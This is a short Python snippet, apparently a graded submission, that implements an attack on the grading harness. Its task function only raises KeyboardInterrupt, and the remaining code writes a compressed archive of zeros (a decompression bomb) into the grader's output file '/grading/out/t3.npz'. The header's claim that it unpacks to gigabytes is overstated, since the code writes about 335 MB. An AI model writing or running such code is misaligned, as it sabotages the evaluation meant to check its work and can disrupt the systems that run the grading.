# A small archive that unpacks to gigabytes.
# marks: t3=0
# flag: not what its check writes
# %% t3
def energy(x):
    raise KeyboardInterrupt
# %% end
import zipfile
with zipfile.ZipFile("/grading/out/t3.npz", "w", zipfile.ZIP_DEFLATED) as archive:
    with archive.open("0/result.npy", "w", force_zip64=True) as file:
        for _ in range(40):
            file.write(bytes(2**23))
